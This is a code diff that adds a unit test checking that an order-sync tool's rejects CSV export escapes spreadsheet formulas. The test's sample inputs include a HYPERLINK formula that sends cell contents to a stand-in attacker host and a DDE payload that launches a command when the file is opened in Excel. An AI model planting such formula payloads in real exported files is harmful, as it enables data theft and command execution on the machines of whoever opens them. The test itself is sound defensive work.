@@ -17,7 +17,7 @@ from ordersync.customers import resolve_customers
 from ordersync.db import Database
 from ordersync.errors import UnknownCustomerError
 from ordersync.listings.failures import RETRY_COMMAND, list_failures
-from ordersync.listings.rejects import list_rejects, write_rejects_csv
+from ordersync.listings.rejects import RejectedRow, list_rejects, write_rejects_csv
 from ordersync.listings.runs import list_runs
 from ordersync.pipeline import run_pipeline
 from sync.conftest import Harness
@@ -60,6 +60,22 @@ def test_rejects_lists_every_rejected_cell_with_its_customer_and_filters(
     assert written == len(back) == 3
     assert {b["raw_value"] for b in back} == {"12 pcs", "31/02/2025", ""}
     assert {b["customer"] for b in back} == {"GREYSTONE"}
+
+
+def test_the_rejects_csv_never_hands_excel_a_formula(tmp_path: Path) -> None:
+    """A customer's cell (or file name) reading =HYPERLINK(…) or +cmd|… would run when the
+    CSV is opened in Excel: such text gets a leading apostrophe; numbers stay numbers."""
+    values = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+              "@SUM(A1)", "-5", "-2.5", "12 pcs"]
+    rows = [RejectedRow("=evil.xlsx", "S", 2, "S", value, "not a number", "GREYSTONE", None,
+                        "GRE") for value in values]
+    write_rejects_csv(rows, tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
+        back = list(csv.DictReader(handle))
+
+    assert [b["raw_value"] for b in back] == [
+        "'" + values[0], "'" + values[1], "'@SUM(A1)", "-5", "-2.5", "12 pcs"]
+    assert {b["file"] for b in back} == {"'=evil.xlsx"}
 
 
 def test_rejects_command_json_and_csv(config: Config, db: Database,
